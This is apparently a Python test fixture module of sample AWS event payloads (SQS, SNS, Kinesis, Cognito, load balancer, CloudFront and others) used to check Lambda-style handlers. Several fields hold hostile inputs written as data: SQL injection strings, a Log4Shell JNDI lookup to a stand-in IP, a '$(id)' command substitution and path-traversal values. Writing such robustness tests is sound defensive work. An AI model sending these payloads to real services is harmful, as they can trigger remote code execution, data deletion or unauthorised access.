"""Events of other services."""

import base64
import json

from tests.honest.corpus.third import (
    BASE64,
    CODE,
    COMMENT,
    COMPANY,
    HTML,
    JSON_TEXT,
    LONG,
    MARKDOWN,
    NAME,
    PATHY,
    SHELLY,
    TEMPLATE,
    UNICODE,
    URL,
    http,
    kinesis,
    logs,
    s3,
    sqs,
)

NEEDS = ("aws-http",)


def _sns(message: object) -> dict[str, object]:
    return {
        "Records": [
            {
                "EventSource": "aws:sns",
                "Sns": {"Subject": "ALARM", "Message": json.dumps(message), "MessageAttributes": {}},
            }
        ]
    }


def _edge(uri: str, query: str = "") -> dict[str, object]:
    request = {
        "uri": uri,
        "querystring": query,
        "method": "GET",
        "clientIp": "203.0.113.9",
        "headers": {"host": [{"key": "Host", "value": "d1.cloudfront.net"}]},
    }
    return {"Records": [{"cf": {"config": {"eventType": "viewer-request"}, "request": request}}]}


def _sync(name: str, **arguments: object) -> dict[str, object]:
    return {
        "info": {"fieldName": name, "parentTypeName": "Query"},
        "arguments": arguments,
        "identity": {"sub": "u"},
    }


REQUESTS = {
    "orders_queue": [
        sqs(
            {"id": "1", "customer": NAME, "note": COMMENT},
            {"id": "2", "customer": "orders", "note": SHELLY},
            "broken {",
        ),
        sqs({"id": "1; --", "customer": COMPANY}, {"id": "1; --", "customer": "twice"}),
        sqs({"id": 7, "customer": JSON_TEXT, "note": CODE}),
    ],
    "queue_to_bucket": [
        sqs({"tenant": "acme", "text": HTML}),
        sqs({"tenant": "o'brien & söhne", "text": LONG}, {"tenant": "a..b"}),
    ],
    "sns_alarm": [
        _sns(
            {
                "AlarmName": "5xx > 1% (api's)",
                "NewStateValue": "ALARM",
                "NewStateReason": "Threshold Crossed: 1 datapoint [3.0 (14/03/26 09:26:00)] was > 1.0",
            }
        ),
        _sns({"AlarmName": "x", "NewStateValue": "OK", "NewStateReason": COMMENT}),
    ],
    "kinesis_counts": [
        kinesis({"type": "click", "path": URL}, {"type": "o'x"}, "not json"),
        kinesis({"type": TEMPLATE}),
    ],
    "firehose": [
        {
            "records": [
                {"recordId": "1", "data": base64.b64encode(text.encode()).decode()}
                for text in (COMMENT, " ", UNICODE, CODE)
            ]
        },
    ],
    "log_alerts": [
        logs(
            "START RequestId: 1",
            "[ERROR] ValueError: it's 'x'; SELECT * FROM orders\nTraceback (most recent call last):",
            "END",
        ),
        logs("ERROR ${jndi:ldap://203.0.113.9/a}", "ok", f"Traceback {SHELLY}"),
    ],
    "custom_bus": [
        {
            "source": "shop",
            "detail-type": "OrderPlaced",
            "detail": {"customer": COMPANY, "lines": [{"sku": "A'1"}, {}]},
        },
        {
            "source": "shop",
            "detail-type": "UserDeleted",
            "detail": {"name": "Robert'); DROP TABLE students;--"},
        },
    ],
    "ec2_state": [
        {
            "detail-type": "EC2 Instance State-change Notification",
            "detail": {
                "instance-id": "i-0abc",
                "state": "stopped",
                "tags": [{"key": "Name", "value": "web's & db (1)"}],
            },
        },
        {"detail": {"instance-id": "i-1", "state": "running"}},
    ],
    "pre_sign_up": [
        {"request": {"userAttributes": {"email": one}}, "response": {}}
        for one in ("o'brien@example.org", "x+y@other.net", '"a b"@EXAMPLE.com')
    ],
    "custom_message": [
        {"request": {"codeParameter": "{####}", "userAttributes": {"name": one}}, "response": {}}
        for one in (NAME, HTML)
    ],
    "pre_token": [
        {
            "request": {
                "groupConfiguration": {"groupsToOverride": ["admins", "o'x"]},
                "userAttributes": {"custom:tenant": "acme; x"},
            }
        }
    ],
    "load_balancer": [
        {
            "requestContext": {"elb": {}},
            "httpMethod": "POST",
            "path": "/a/b'c",
            "queryStringParameters": {"q": "1%27%20OR%201=1"},
            "headers": {},
            "body": base64.b64encode(b"text=it%27s&n=-1").decode(),
            "isBase64Encoded": True,
        },
        {
            "requestContext": {"elb": {}},
            "httpMethod": "POST",
            "path": "/",
            "multiValueQueryStringParameters": {"tag": ["a", "b;c"]},
            "multiValueHeaders": {},
            "body": "x=<b>&y=$(id)",
            "isBase64Encoded": False,
        },
    ],
    "edge_rewrite": [
        _edge("/blog/"),
        _edge("/blog/o'brien's-post"),
        _edge("/old/a/../b", "q=1"),
        _edge("/assets/app.min.js"),
    ],
    "edge_headers": [
        {
            "Records": [
                {
                    "cf": {
                        "config": {"eventType": "origin-response"},
                        "response": {
                            "status": "200",
                            "headers": {"server": [{"key": "Server", "value": "x'y"}]},
                        },
                    }
                }
            ]
        }
    ],
    "authorizer": [
        {
            "type": "TOKEN",
            "authorizationToken": f"Bearer {one}",
            "methodArn": "arn:aws:execute-api:eu-west-1:123456789012:abc/prod/GET/orders/*",
        }
        for one in ("t-1", "o'brien-token==", "x' OR '1'='1", BASE64)
    ],
    "socket_message": [
        {
            "requestContext": {"routeKey": "sendmessage", "connectionId": "Ab1="},
            "body": json.dumps({"action": "sendmessage", "text": MARKDOWN}),
        },
        {
            "requestContext": {"routeKey": "$default", "connectionId": "c'2"},
            "body": json.dumps({"room": "tea & co", "text": COMMENT}),
        },
    ],
    "state_machine": [
        {"item": {"id": "1", "text": CODE}, "input": {"prefix": "$.x: "}, "index": 0},
        {"item": {"id": -1, "text": UNICODE}, "input": {"prefix": ""}, "index": 3, "attempt": 2},
    ],
    "custom_resource": [
        {
            "RequestType": "Create",
            "ResponseURL": URL,
            "LogicalResourceId": "X",
            "ResourceProperties": {"Name": "My Shop's Thing"},
        },
        {"RequestType": "Delete", "PhysicalResourceId": "thing-x", "ResourceProperties": {"Name": "../x"}},
    ],
    "pipeline_action": [
        {
            "CodePipeline.job": {
                "id": "1",
                "data": {
                    "actionConfiguration": {
                        "configuration": {"UserParameters": json.dumps({"stage": "prod", "message": COMMENT})}
                    },
                    "inputArtifacts": [
                        {"location": {"s3Location": {"bucketName": "b", "objectKey": "x/y.zip"}}}
                    ],
                },
            }
        }
    ],
    "config_rule": [
        {
            "invokingEvent": json.dumps({"configurationItem": {"tags": {"cost centre": "o'x"}}}),
            "ruleParameters": json.dumps({"tag": one}),
        }
        for one in ("cost centre", "x")
    ],
    "mail_receipt": [
        {
            "Records": [
                {
                    "eventSource": "aws:ses",
                    "ses": {
                        "mail": {
                            "messageId": "o3vrnil0e2ic28tr",
                            "source": "o'brien@example.org",
                            "headers": [{"name": "Subject", "value": text}],
                        }
                    },
                }
            ]
        }
        for text in (COMPANY, COMMENT)
    ],
    "iot_shadow": [
        {"thing": "sensor/1", "state": {"reported": {"temperature": "-40.5"}}},
        {"thing": "o'x", "state": {"reported": {"temperature": 21}}, "note": UNICODE},
    ],
    "app_sync": [
        _sync("getBook", id="1"),
        _sync("searchBooks", text="hiker's"),
        _sync("searchBooks", text="select", first=1),
        _sync("addBook", input={"title": HTML, "id": "x"}),
    ],
    "bucket_batch": [
        {
            "invocationId": "x",
            "tasks": [{"taskId": "1", "s3Key": "a%2Fb+c%27d.tar.gz", "s3BucketArn": "arn:aws:s3:::receipts"}],
        }
    ],
    "address_filter": [
        http("GET", "/", headers={"x-forwarded-for": one})
        for one in ("203.0.113.77, 10.0.0.1", "2001:db8::1", "127.0.0.1' OR 1=1", "unknown")
    ],
    "nested_notice": [
        sqs({"Type": "Notification", "Message": json.dumps(s3("in/o%27brien+1.csv"))}),
        sqs({"Message": json.dumps(s3("x/" + PATHY.replace("../", "").replace(" ", "+")))}),
    ],
}
